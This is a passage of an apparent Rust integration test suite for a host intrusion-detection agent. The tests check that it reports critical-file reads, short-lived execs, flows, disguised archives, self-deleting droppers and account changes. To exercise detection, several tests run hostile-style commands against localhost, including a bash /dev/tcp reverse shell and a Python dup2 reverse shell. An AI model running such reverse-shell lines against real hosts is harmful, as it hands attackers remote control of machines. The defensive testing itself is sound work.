            .iter()
            .any(|f| f.attributes.get("path") == Some(&path("minutes.docx"))),
        "an office document is not an archive"
    );
    let odd = found
        .iter()
        .filter(|f| f.kind == "file.odd_name" && not_probe(f))
        .count();
    assert!(
        odd <= 3,
        "500 odd names arrive folded, not as {odd} findings"
    );
}

/// fanotify names the process that opened a critical file, however short-lived;
/// allowed programs are quiet.
#[tokio::test(flavor = "multi_thread")]
async fn critical_file_access_names_the_process_needs_root() {
    // fanotify needs root.
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let secret = dir.path().join("shadow");
    std::fs::write(&secret, "root:$6$hash:19000::::::\n").expect("secret");
    // Readers linger a moment after opening, as a process that goes on to use
    // what it read would: fanotify notifications are asynchronous, and a reader
    // gone within microseconds is reported with its pid only (documented).
    let allowed = std::fs::canonicalize(which("python3")).expect("python3");
    let intruder = std::fs::canonicalize(which("sh")).expect("sh");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("fa-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["file_access"],
            sensor_toml: vec![(
                "file_access",
                format!(
                    "paths = [{:?}]\nallow = [{:?}]",
                    secret.display().to_string(),
                    allowed.display().to_string()
                ),
            )],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "file_access", Duration::from_secs(30)).await;
    let quiet = Command::new(&allowed)
        .arg("-c")
        .arg(format!(
            "import time\nf = open({:?})\nf.read()\ntime.sleep(2)\n",
            secret.display().to_string()
        ))
        .status()
        .expect("python3");
    assert!(quiet.success());
    let read = Command::new(&intruder)
        .arg("-c")
        .arg(format!(
            "exec 3< {:?}; sleep 2",
            secret.display().to_string()
        ))
        .status()
        .expect("sh");
    assert!(read.success());
    // By the intruder: other programs on a shared machine (another agent's
    // sniffing of new files in /tmp, say) may open the file too.
    let shell = intruder.display().to_string();
    let found = eventually(Duration::from_secs(30), "file.access", || {
        let mut c = client.clone();
        let shell = shell.clone();
        async move {
            let f = all_findings(&mut c).await;
            f.into_iter()
                .find(|f| f.kind == "file.access" && f.attributes.get("exe") == Some(&shell))
        }
    })
    .await;
    assert_eq!(found.attributes["path"], secret.display().to_string());
    assert_eq!(
        found.attributes["exe"],
        intruder.display().to_string(),
        "{found:?}"
    );
    assert_eq!(found.attributes["uid"], "0");
    let mut c = client.clone();
    let all = all_findings(&mut c).await;
    assert!(
        !all.iter().any(
            |f| f.kind == "file.access" && f.attributes["exe"] == allowed.display().to_string()
        ),
        "an allowed program is quiet: {all:?}"
    );
}

/// `bannin relearn`: the command reaches the agent, which names the sensors
/// that will learn again; an unknown sensor is a clear error.
#[tokio::test(flavor = "multi_thread")]
async fn relearn_reaches_the_agent() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("relearn-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_online(&mut client, "relearn-host").await;
    let operator = bannin_tests::operator_toml(dir.path(), &pki.operator("alice"), collector.addr);
    let (ok, all, err) = bannin_tests::bannin_json(
        &operator,
        &["relearn", "relearn-host", "--reason", "after the upgrade"],
    );
    assert!(ok, "{err}");
    assert_eq!(all["state"], "succeeded", "{all}");
    let result = all["result"].as_str().unwrap_or_default();
    assert!(
        result.contains("process") && result.contains("file_integrity"),
        "{result}"
    );
    let (ok, one, _) = bannin_tests::bannin_json(
        &operator,
        &["relearn", "relearn-host", "--sensor", "accounts"],
    );
    assert!(
        ok && one["result"]
            .as_str()
            .is_some_and(|r| r.ends_with("accounts")),
        "{one}"
    );
    let (ok, bad, _) = bannin_tests::bannin_json(
        &operator,
        &["relearn", "relearn-host", "--sensor", "file_access"],
    );
    assert!(!ok || bad["state"] == "failed", "{bad}");
    assert!(
        bad["result"]
            .as_str()
            .is_some_and(|r| r.contains("keeps no baseline")),
        "{bad}"
    );
}

/// What the host's sensor says of itself, for failure messages.
async fn sensor_health(
    client: &bannin_proto::v1::operator_client::OperatorClient<tonic::transport::Channel>,
    sensor: &str,
) -> String {
    sensor_health_where(client, |_| true, sensor).await
}

/// [`sensor_health`] of one host.
async fn sensor_health_of(
    client: &bannin_proto::v1::operator_client::OperatorClient<tonic::transport::Channel>,
    host: &str,
    sensor: &str,
) -> String {
    sensor_health_where(client, |h| h.host_id == host, sensor).await
}

async fn sensor_health_where(
    client: &bannin_proto::v1::operator_client::OperatorClient<tonic::transport::Channel>,
    host: impl Fn(&v1::Host) -> bool,
    sensor: &str,
) -> String {
    let mut c = client.clone();
    let Ok(hosts) = c.list_hosts(v1::ListHostsRequest {}).await else {
        return "collector unreachable".into();
    };
    hosts
        .into_inner()
        .hosts
        .iter()
        .filter(|h| host(h))
        .flat_map(|h| &h.sensors)
        .filter(|s| s.name == sensor)
        .map(|s| format!("{} {}: {}", s.name, s.state, s.detail))
        .collect::<Vec<_>>()
        .join("; ")
}

/// Waits for the first finding `pick` returns; on timeout, fails with the
/// sensor's health and the agent's log.
async fn finding_within(
    client: &bannin_proto::v1::operator_client::OperatorClient<tonic::transport::Channel>,
    within: Duration,
    sensor: &str,
    agent: &bannin_tests::Proc,
    pick: impl Fn(&v1::Finding) -> bool,
) -> v1::Finding {
    let deadline = std::time::Instant::now() + within;
    loop {
        let mut c = client.clone();
        if let Some(f) = all_findings(&mut c).await.into_iter().find(|f| pick(f)) {
            return f;
        }
        if std::time::Instant::now() > deadline {
            let log = agent.log_text();
            let tail: Vec<&str> = log.lines().rev().take(30).collect();
            panic!(
                "no finding within {within:?}; {}; agent log (last lines, newest first):\n{}",
                sensor_health(client, sensor).await,
                tail.join("\n")
            );
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A process that lives a fifth of a second, with the next /proc walk ten
/// minutes away, is still judged — within seconds: the kernel's process events
/// connector reports its exec, the reader resolves it at once and wakes the
/// sensor.
#[tokio::test(flavor = "multi_thread")]
async fn a_process_shorter_than_the_poll_interval_is_seen_at_once_needs_root() {
    // The connector needs CAP_NET_ADMIN.
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let shm = tempfile::tempdir_in("/dev/shm").expect("shm dir");
    let flash = shm.path().join("flash");
    std::fs::copy(which("sleep"), &flash).expect("copy");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("flash-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            interval_secs: 600,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    // Listening (its first walk done) whatever else the machine runs: ok, or
    // degraded by processes it could not read, but not by the connector.
    eventually(
        Duration::from_secs(90),
        "process sensor walked /proc",
        || {
            let client = client.clone();
            async move {
                let h = sensor_health(&client, "process").await;
                (h.starts_with("process ok") || h.starts_with("process degraded")).then_some(h)
            }
        },
    )
    .await;
    let health = sensor_health(&client, "process").await;
    assert!(!health.contains("connector"), "{health}");
    let ran = Command::new(&flash).arg("0.2").status().expect("flash");
    assert!(ran.success());
    let path = flash.display().to_string();
    let found = finding_within(&client, Duration::from_secs(30), "process", &agent, |f| {
        f.kind == "process.suspicious_exec" && f.attributes.get("exe") == Some(&path)
    })
    .await;
    assert_eq!(found.attributes["reason"], "suspicious_directory");
    assert!(
        found.attributes.contains_key("sha256"),
        "hashed through the held handle: {found:?}"
    );
}

/// The complete record: 1,000 execs of a millisecond each, started by a shell
/// that exits before most are judged, all reach the collector while both
/// cores are busy — each with its arguments and its parent's executable and
/// command line as they were at the exec (captured by eBPF, not read from a
/// `/proc` entry that is gone) — and the process sensor says it runs on eBPF.
/// Under CI a fallback to the connector fails here.
#[tokio::test(flavor = "multi_thread")]
async fn a_thousand_short_execs_all_reach_the_collector_with_parent_fields_needs_root() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("storm-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            interval_secs: 600,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    let health = eventually(Duration::from_secs(90), "process sensor running", || {
        let client = client.clone();
        async move {
            let h = sensor_health(&client, "process").await;
            (h.starts_with("process ok") || h.starts_with("process degraded")).then_some(h)
        }
    })
    .await;
    assert!(
        health.contains("execs from eBPF"),
        "the eBPF path runs, not a fallback: {health}; agent log:\n{}",
        agent.log_text()
    );

    let hogs = bannin_tests::CpuHogs::start(2);
    let marker = format!("storm{}", std::process::id());
    let script = format!(
        "i=0; while [ $i -lt 1000 ]; do /bin/true {marker}-$i; i=$((i+1)); done; /bin/sh -c 'exit 3' {marker}-failed || true"
    );
    let ran = Command::new("/bin/sh")
        .args(["-c", &script])
        .status()
        .expect("sh");
    drop(hogs);
    assert!(ran.success());

    let execs = eventually(Duration::from_secs(120), "1,000 execs stored", || {
        let mut c = client.clone();
        let marker = marker.clone();
        async move {
            let ours: Vec<_> = all_events(&mut c, "storm-host", "process.exec")
                .await
                .into_iter()
                .filter_map(|e| e.event)
                .filter(|e| {
                    e.attributes
                        .get("cmdline")
                        .is_some_and(|c| c.starts_with(&format!("/bin/true {marker}-")))
                })
                .collect();
            (ours.len() >= 1000).then_some(ours)
        }
    })
    .await;
    let runs: std::collections::BTreeSet<&str> = execs
        .iter()
        .filter_map(|e| e.attributes["cmdline"].split(' ').nth(1))
        .collect();
    assert_eq!(runs.len(), 1000, "each of the 1,000 exactly once");
    for e in &execs {
        let a = &e.attributes;
        assert!(a["exe"].ends_with("/true"), "{a:?}");
        assert!(
            a.get("parent_exe").is_some_and(|p| p.ends_with("sh")),
            "parent recorded as it was: {a:?}"
        );
        assert!(
            a.get("parent_cmdline").is_some_and(|c| c.contains("while")),
            "{a:?}"
        );
        assert!(a.contains_key("sha256"), "{a:?}");
    }
    // Short-lived: most were judged after they ended, and say how (the
    // kernel's exit record); a run judged while still running says nothing.
    let ended = execs
        .iter()
        .filter(|e| e.attributes.get("exit").map(String::as_str) == Some("exit 0"))
        .count();
    assert!(ended >= 900, "{ended} of 1,000 carry their exit");
    let mut c = client.clone();
    let failed = all_events(&mut c, "storm-host", "process.exec")
        .await
        .into_iter()
        .filter_map(|e| e.event)
        .find(|e| {
            e.attributes
                .get("cmdline")
                .is_some_and(|c| c.ends_with(&format!("{marker}-failed")))
        })
        .expect("the failing command's exec");
    assert_eq!(
        failed.attributes.get("exit").map(String::as_str),
        Some("exit 3"),
        "{:?}",
        failed.attributes
    );
    assert!(failed.attributes.contains_key("lived_ms"));
    let health = sensor_health(&client, "process").await;
    assert!(
        !health.contains("exec events lost"),
        "nothing lost: {health}"
    );
}

/// Where eBPF is not used (here: `exec_source = "connector"`, as on a kernel
/// without BTF), the sensor falls back to the process events connector and
/// `bannin hosts` says so, with what that path misses.
#[tokio::test(flavor = "multi_thread")]
async fn a_forced_fallback_says_so_in_the_hosts_health_needs_root() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("fallback-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            sensor_toml: vec![("process", "exec_source = \"connector\"".into())],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    let health = eventually(Duration::from_secs(90), "process sensor health", || {
        let client = client.clone();
        async move {
            let h = sensor_health(&client, "process").await;
            h.starts_with("process degraded").then_some(h)
        }
    })
    .await;
    assert!(
        health.contains("exec_source = \"connector\"")
            && health.contains("execs from the process events connector")
            && health.contains("missed"),
        "{health}"
    );
    // What an operator reads: `bannin hosts --json`.
    let operator = bannin_tests::operator_toml(dir.path(), &pki.operator("alice"), collector.addr);
    let (ok, hosts, stderr) = bannin_tests::bannin_json(&operator, &["hosts"]);
    assert!(ok, "{stderr}");
    assert!(
        hosts
            .to_string()
            .contains("execs from the process events connector"),
        "{hosts}"
    );
}

/// The kernel probes load under the restrictions the shipped systemd unit puts
/// on the agent — its capability bounding set, no new privileges, its syscall
/// deny list (`@debug` holds `perf_event_open` and `ptrace`) with EPERM —
/// read from `deploy/systemd/bannin-agent.service` itself: execs and flows come
/// from eBPF, and an exec is recorded with its parent. The control: the same
/// restrictions plus a denied `bpf()` make the agent fall back and say so, so
/// the emulated filter does bite. (Mount and cgroup restrictions are not
/// emulated: see `bannin_tests::sandbox`.)
#[tokio::test(flavor = "multi_thread")]
async fn the_kernel_probes_run_under_the_shipped_unit_s_restrictions_needs_root() {
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("systemd-analyze", "systemd"),
    ]) {
        return;
    }
    let unit = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/systemd/bannin-agent.service");
    let sandbox =
        bannin_tests::sandbox::Sandbox::from_unit(&unit).expect("the unit's restrictions");
    assert!(
        sandbox.denied.contains("perf_event_open") && sandbox.denied.contains("ptrace"),
        "groups expanded: {:?}",
        sandbox.denied
    );
    assert!(
        sandbox.no_new_privs && sandbox.keep_caps.contains(&21),
        "{sandbox:?}"
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let options = |sandbox: bannin_tests::sandbox::Sandbox| AgentOptions {
        net_listener: false,
        net_connection: true,
        enable: vec!["process"],
        interval_secs: 600,
        sandbox: Some(sandbox),
        ..AgentOptions::default()
    };
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("unit-host"),
        collector.addr,
        &options(sandbox.clone()),
    );
    // The restrictions are in force on the running agent.
    let status = std::fs::read_to_string(format!("/proc/{}/status", agent.pid())).expect("status");
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.trim().to_owned())
            .unwrap_or_default()
    };
    let mask = sandbox.keep_caps.iter().fold(0u64, |m, c| m | 1 << c);
    assert_eq!(field("NoNewPrivs:"), "1", "{status}");
    assert_eq!(field("Seccomp:"), "2", "{status}");
    assert_eq!(field("CapBnd:"), format!("{mask:016x}"), "{status}");
    assert_eq!(field("CapEff:"), format!("{mask:016x}"), "{status}");

    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    for (sensor, says) in [
        ("process", "execs from eBPF"),
        ("net_connection", "flows from eBPF"),
    ] {
        let health = eventually(Duration::from_secs(90), "sensor running", || {
            let client = client.clone();
            async move {
                let h = sensor_health(&client, sensor).await;
                (h.starts_with(&format!("{sensor} ok"))
                    || h.starts_with(&format!("{sensor} degraded")))
                .then_some(h)
            }
        })
        .await;
        assert!(
            health.contains(says),
            "{says} under the unit: {health}; agent log:\n{}",
            agent.log_text()
        );
    }
    let marker = format!("unit{}", std::process::id());
    let ran = Command::new("/bin/sh")
        .args(["-c", &format!("/bin/true {marker}")])
        .status()
        .expect("sh");
    assert!(ran.success());
    let exec = eventually(Duration::from_secs(60), "the exec stored", || {
        let mut c = client.clone();
        let marker = marker.clone();
        async move {
            all_events(&mut c, "unit-host", "process.exec")
                .await
                .into_iter()
                .filter_map(|e| e.event)
                .find(|e| e.attributes.get("cmdline") == Some(&format!("/bin/true {marker}")))
        }
    })
    .await;
    assert!(
        exec.attributes
            .get("parent_cmdline")
            .is_some_and(|c| c.contains(&marker)),
        "{:?}",
        exec.attributes
    );

    // The control: bpf() denied as the unit denies the rest.
    let _denied = start_agent(
        &dir.path().join("agent-denied"),
        &pki.agent("denied-host"),
        collector.addr,
        &options(sandbox.deny(&["bpf"])),
    );
    let health = eventually(Duration::from_secs(90), "fallback health", || {
        let client = client.clone();
        async move {
            let h = sensor_health_of(&client, "denied-host", "process").await;
            h.starts_with("process degraded").then_some(h)
        }
    })
    .await;
    assert!(
        !health.contains("execs from eBPF") && health.contains("process events connector"),
        "{health}"
    );
}

/// A file dropped in a watched directory is checked when it appears (inotify),
/// not at the next walk ten minutes later: a zip named like a picture in a new
/// subdirectory, and a name made to hide.
#[tokio::test(flavor = "multi_thread")]
async fn creations_in_watched_directories_are_reported_at_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let watched = dir.path().join("srv");
    std::fs::create_dir_all(&watched).expect("watched");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("drop-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            watch: vec![watched.clone()],
            interval_secs: 600,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "file_odd_name", Duration::from_secs(60)).await;
    // inotify's watches are in place once a creation is reported (the walk is ten
    // minutes away): a probe, rather than a fixed wait.
    let probe = watched.join(" probe");
    std::fs::write(&probe, b"x").expect("probe");
    let seen = finding_within(
        &client,
        Duration::from_secs(20),
        "file_odd_name",
        &agent,
        |f| f.kind == "file.odd_name",
    )
    .await;
    assert_eq!(seen.attributes["path"], probe.display().to_string());
    std::fs::create_dir(watched.join("uploads")).expect("uploads");
    let disguised = watched.join("uploads/holiday.jpg");
    std::fs::write(
        &disguised,
        b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0loot/",
    )
    .expect("zip");
    let hidden = watched.join("uploads/...");
    std::fs::write(&hidden, b"x").expect("odd");
    let archive = finding_within(
        &client,
        Duration::from_secs(20),
        "file_odd_name",
        &agent,
        |f| f.kind == "file.archive",
    )
    .await;
    assert_eq!(archive.attributes["path"], disguised.display().to_string());
    assert_eq!(archive.attributes["format"], "zip");
    assert_eq!(archive.attributes["disguised"], "true");
    let hidden_path = hidden.display().to_string();
    let odd = finding_within(
        &client,
        Duration::from_secs(20),
        "file_odd_name",
        &agent,
        |f| f.kind == "file.odd_name" && f.attributes.get("path") == Some(&hidden_path),
    )
    .await;
    assert_eq!(odd.attributes["path"], hidden_path);
    assert_eq!(odd.attributes["reason"], "dots_only");
}

/// The flow log: a connection that lasts a third of a second, far shorter
/// than the connection sensor's interval, is recorded when it closes — with
/// the process that opened it, its duration and the bytes each way — and the
/// listening side's record names the process that owns the listener.
#[tokio::test(flavor = "multi_thread")]
async fn a_short_connection_is_in_the_flow_log_with_its_process_needs_root() {
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("python3", "python3"),
    ]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("flow-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            net_connection: true,
            interval_secs: 600,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    let health = eventually(Duration::from_secs(90), "connection sensor health", || {
        let client = client.clone();
        async move {
            let h = sensor_health(&client, "net_connection").await;
            h.contains("flows from eBPF").then_some(h)
        }
    })
    .await;
    assert!(!health.contains("lost"), "{health}");

    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let server = std::thread::spawn(move || {
        use std::io::{Read, Write};
        let (mut peer, _) = listener.accept().expect("accept");
        let mut got = Vec::new();
        peer.read_to_end(&mut got).expect("read");
        let _ = peer.write_all(b"");
        got.len()
    });
    let script = format!(
        "import socket, time\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(b'x' * 1000)\ntime.sleep(0.3)\ns.close()\n"
    );
    let client_proc = Command::new("python3")
        .args(["-c", &script])
        .spawn()
        .expect("python3");
    let pid = client_proc.id();
    let status = Reaped(client_proc).0.wait().expect("wait");
    assert!(status.success());
    assert_eq!(server.join().expect("server"), 1000);

    let port_text = port.to_string();
    let flows = eventually(Duration::from_secs(30), "both sides' flows", || {
        let mut c = client.clone();
        let port_text = port_text.clone();
        async move {
            let ours: Vec<_> = all_events(&mut c, "flow-host", "net.flow")
                .await
                .into_iter()
                .filter_map(|e| e.event)
                .filter(|e| e.attributes.get("port") == Some(&port_text))
                .collect();
            (ours.len() >= 2).then_some(ours)
        }
    })
    .await;
    let out = flows
        .iter()
        .find(|e| e.attributes["direction"] == "outbound")
        .unwrap_or_else(|| {
            panic!(
                "the outbound side: {flows:?}; agent log:\n{}",
                agent.log_text()
            )
        });
    let a = &out.attributes;
    assert_eq!(a["pid"], pid.to_string(), "{a:?}");
    assert!(a["exe"].contains("python3"), "{a:?}");
    assert_eq!(a["bytes_sent"], "1000", "{a:?}");
    assert_eq!(a["state"], "established", "{a:?}");
    let took: u64 = a["duration_ms"].parse().expect("duration");
    assert!((250..5_000).contains(&took), "{a:?}");
    let inbound = flows
        .iter()
        .find(|e| e.attributes["direction"] == "inbound")
        .expect("the listening side");
    assert_eq!(
        inbound.attributes["pid"],
        std::process::id().to_string(),
        "the listener's owner: {:?}",
        inbound.attributes
    );
    assert_eq!(inbound.attributes["bytes_received"], "1000");
}

/// A dropper copied to /tmp, run for 50 ms and deleted while it runs, has
/// its hash: the probe's record names the file the kernel ran (device and
/// inode), the reader holds it open, and it is hashed through that handle
/// after it is gone from the directory.
#[tokio::test(flavor = "multi_thread")]
async fn a_self_deleting_dropper_has_its_hash_needs_root() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let (_collector, _agent, client) =
        crate::process_host(dir.path(), &pki, "dropper-host", "").await;
    let tmp = tempfile::tempdir_in("/tmp").expect("tmp");
    let dropper = tmp.path().join("upd");
    let mut bytes = std::fs::read(which("sleep")).expect("sleep");
    bytes.extend_from_slice(dir.path().to_string_lossy().as_bytes());
    std::fs::write(&dropper, &bytes).expect("write");
    std::fs::set_permissions(
        &dropper,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("chmod");
    let sha = {
        use sha2::Digest;
        let d = sha2::Sha256::digest(&bytes);
        d.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let mut child = Command::new(&dropper).arg("0.05").spawn().expect("dropper");
    std::fs::remove_file(&dropper).expect("delete itself");
    assert!(child.wait().expect("wait").success());
    let pid = child.id().to_string();
    let exec = eventually(Duration::from_secs(30), "the dropper's exec", || {
        let mut c = client.clone();
        let pid = pid.clone();
        async move {
            all_events(&mut c, "dropper-host", "process.exec")
                .await
                .into_iter()
                .filter_map(|e| e.event)
                .find(|e| e.attributes.get("pid") == Some(&pid))
        }
    })
    .await;
    assert_eq!(
        exec.attributes.get("sha256"),
        Some(&sha),
        "{:?}",
        exec.attributes
    );
}

/// A reverse shell — `bash -i >& /dev/tcp/…`, and a python one-liner that
/// `dup2`s a socket over its standard streams and execs `sh` — raises
/// `process.reverse_shell` within seconds, naming the peer; a bash reading a
/// pipe, and a shell whose output goes to a unix socket, stay quiet.
#[tokio::test(flavor = "multi_thread")]
async fn reverse_shells_are_found_and_shells_on_pipes_are_not_needs_root() {
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("python3", "python3"),
    ]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let (_collector, agent, client) = crate::process_host(dir.path(), &pki, "shell-host", "").await;
    // The attacker's end: a listener that holds each shell's connection open.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let held = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let keep = held.clone();
    std::thread::spawn(move || {
        for peer in listener.incoming().flatten() {
            bannin_proto::lock(&keep).push(peer);
        }
    });
    // Quiet: a bash reading a pipe; a shell writing to a unix socket.
    let mut piped = Command::new("/bin/bash")
        .args(["-c", "echo 'sleep 3' | bash"])
        .spawn()
        .expect("piped bash");
    let piped_pid = piped.id().to_string();
    assert!(piped.wait().expect("piped bash").success());
    let (unix_a, _unix_b) = std::os::unix::net::UnixStream::pair().expect("socketpair");
    let mut on_unix = Command::new("/bin/sh")
        .args(["-c", "sleep 3"])
        .stdout(std::process::Stdio::from(std::os::fd::OwnedFd::from(
            unix_a,
        )))
        .spawn()
        .expect("sh on a unix socket");

    let bash = Reaped(
        Command::new("/bin/bash")
            .args([
                "-c",
                &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
            ])
            .spawn()
            .expect("bash reverse shell"),
    );
    let script = format!(
        "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nos.execv('/bin/sh', ['sh', '-i'])\n"
    );
    let python = Reaped(
        Command::new("python3")
            .args(["-c", &script])
            .spawn()
            .expect("python reverse shell"),
    );
    let pids = [bash.0.id().to_string(), python.0.id().to_string()];
    // This test's processes and their children (the agent sees every
    // process on the machine, other tests' too).
    let ours = [
        pids[0].clone(),
        pids[1].clone(),
        piped_pid,
        on_unix.id().to_string(),
    ];
    let found = eventually(Duration::from_secs(15), "both reverse shells", || {
        let mut c = client.clone();
        let pids = pids.clone();
        let ours = ours.clone();
        async move {
            let shells: Vec<v1::Finding> = all_findings(&mut c)
                .await
                .into_iter()
                .filter(|f| f.kind == "process.reverse_shell")
                .filter(|f| {
                    ["pid", "ppid"]
                        .iter()
                        .any(|k| f.attributes.get(*k).is_some_and(|p| ours.contains(p)))
                })
                .collect();
            pids.iter()
                .all(|p| shells.iter().any(|f| f.attributes.get("pid") == Some(p)))
                .then_some(shells)
        }
    })
    .await;
    for f in &found {
        assert_eq!(f.severity, v1::Severity::Critical as i32, "{f:?}");
        assert_eq!(f.attributes["remote_address"], "127.0.0.1", "{f:?}");
        assert_eq!(f.attributes["remote_port"], port.to_string(), "{f:?}");
        assert_eq!(f.attributes["attack.technique"], "T1059.004");
    }
    assert_eq!(
        found.len(),
        2,
        "only the two reverse shells: {found:?}; agent log:\n{}",
        agent.log_text()
    );
    let _ = on_unix.wait();
    drop(held);
}

/// One `useradd` is one account finding that lists the files it changed and
/// names the tool (not fourteen `file.modified`), and a key appended to
/// root's `authorized_keys` is `account.ssh_key_added` naming the account,
/// the key's fingerprint and the process that wrote it. Run for real: the
/// shadow tools write into a host root the test made (`useradd --prefix`),
/// watched by fanotify as `/etc` would be.
#[tokio::test(flavor = "multi_thread")]
async fn one_useradd_is_one_finding_and_an_added_ssh_key_is_named_needs_root() {
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("useradd", "passwd"),
    ]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let root = dir.path().join("host");
    std::fs::create_dir_all(root.join("etc")).expect("etc");
    std::fs::create_dir_all(root.join("root/.ssh")).expect(".ssh");
    for (file, text) in [
        (
            "passwd",
            "root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n",
        ),
        ("group", "root:x:0:\nsudo:x:27:\nnogroup:x:65534:\n"),
        (
            "shadow",
            "root:*:20000:0:99999:7:::\nnobody:*:20000:0:99999:7:::\n",
        ),
        ("gshadow", "root:*::\nsudo:*::\nnogroup:*::\n"),
        ("subuid", ""),
        ("subgid", ""),
    ] {
        std::fs::write(root.join("etc").join(file), text).expect("account file");
    }
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("account-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            root: Some(root.clone()),
            enable: vec!["accounts", "file_integrity", "file_access"],
            sensor_toml: vec![
                (
                    "file_integrity",
                    "paths = [\"/etc\"]\nlibrary_paths = []\nhash_rate_mib = 0".into(),
                ),
                ("file_access", "paths = [\"/root/.ssh\"]".into()),
            ],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    for sensor in ["accounts", "file_integrity", "file_access"] {
        crate::wait_sensor_ok(&client, sensor, Duration::from_secs(60)).await;
    }
    // The integrity baseline is in force once a probe is reported.
    std::fs::write(root.join("etc/probe"), b"probe").expect("probe");
    eventually(Duration::from_secs(30), "the probe reported", || {
        let mut c = client.clone();
        async move {
            all_findings(&mut c)
                .await
                .iter()
                .any(|f| f.kind == "file.modified" && f.attributes["path"] == "/etc/probe")
                .then_some(())
        }
    })
    .await;

    let useradd = Command::new("useradd")
        .arg("--prefix")
        .arg(&root)
        .args(["-M", "-U", "-s", "/bin/bash", "mallory"])
        .output()
        .expect("useradd");
    assert!(useradd.status.success(), "{useradd:?}");
    let account = eventually(Duration::from_secs(30), "account.new_user", || {
        let mut c = client.clone();
        async move {
